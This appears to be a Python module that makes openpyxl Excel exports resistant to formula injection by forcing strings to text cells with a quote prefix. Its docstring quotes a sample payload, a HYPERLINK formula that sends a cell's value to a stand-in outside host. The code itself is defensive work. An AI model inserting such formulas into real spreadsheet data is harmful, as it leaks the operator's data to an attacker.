"""Excel exports that write text as text: no cell of data ever becomes a formula.

openpyxl stores a string that starts with ``=`` as a formula, so a surname like
``=HYPERLINK("http://x.io/"&G2,"Открыть")`` received from outside would run in the
operator's Excel (formula injection). Every export of the console and its extensions
appends rows through :func:`append_row`, which keeps each string an explicit text cell
(``t="inlineStr"``) with Excel's quote prefix, so that even editing the cell later does
not turn it into a formula.
"""

from __future__ import annotations

import io
from collections.abc import Callable, Iterable, Sequence
from datetime import datetime, tzinfo
from typing import Any

from openpyxl import Workbook
from openpyxl.cell.cell import Cell
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

from admin.times import as_utc

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
"""First characters that make a spreadsheet read a cell as a formula (or hide one)."""


def is_risky(value: Any) -> bool:
    """Whether a value would be taken for a formula by openpyxl or by Excel."""
    return isinstance(value, str) and value.startswith(FORMULA_START)


def text_safe_cell(sheet: Worksheet, value: Any, number_format: str | None = None) -> Cell:
    """A cell of ``value`` to append: a string stays text, whatever it starts with."""
    cell = Cell(sheet, value=value)
    if isinstance(value, str):
        cell.data_type = "s"
        if is_risky(value):
            cell.quotePrefix = True
    if number_format is not None:
        cell.number_format = number_format
    return cell


def append_row(sheet: Worksheet, values: Iterable[Any],
               formats: Callable[[Any], str | None] = lambda value: None) -> None:
    """Append one row; every string stays text, whatever it starts with; ``formats`` gives
    a value's number format. The cells are made before they are appended: asking the sheet
    for its last row after each append scans every cell (an export of 10,000 rows took
    minutes)."""
    sheet.append([text_safe_cell(sheet, v, formats(v)) for v in values])


SECONDS_FORMAT = "DD.MM.YYYY HH:MM:SS"
"""How a time cell of :func:`append_record` reads in Excel (ДД.ММ.ГГГГ ЧЧ:ММ:СС)."""


def local_time(value: datetime, tz: tzinfo) -> datetime:
    """A stored time as a naive datetime in ``tz``: Excel cells have no time zone, so they
    hold the fund's wall-clock time, as the screens show it."""
    return as_utc(value).astimezone(tz).replace(tzinfo=None)


def append_record(sheet: Worksheet, values: Iterable[Any], tz: tzinfo) -> None:
    """Append one row of typed values: a datetime becomes a real date-time cell in ``tz``
    (:data:`SECONDS_FORMAT`), numbers stay numbers, strings stay text (:func:`append_row`)."""
    row = [local_time(v, tz) if isinstance(v, datetime) else v for v in values]
    append_row(sheet, row, lambda v: SECONDS_FORMAT if isinstance(v, datetime) else None)


def header_row(sheet: Worksheet, titles: Sequence[str], widths: Sequence[int] = ()) -> None:
    """The first row: bold titles, frozen above the data; optional column widths."""
    append_row(sheet, titles)
    for cell in sheet[sheet.max_row]:
        cell.font = Font(bold=True)
    # A coordinate, not sheet.cell(): touching the cell below would make it a (blank) row.
    sheet.freeze_panes = f"A{sheet.max_row + 1}"
    for column, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(column)].width = width


def to_bytes(book: Workbook) -> bytes:
    """The workbook as the bytes of an .xlsx file."""
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


XLSX_MEDIA_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
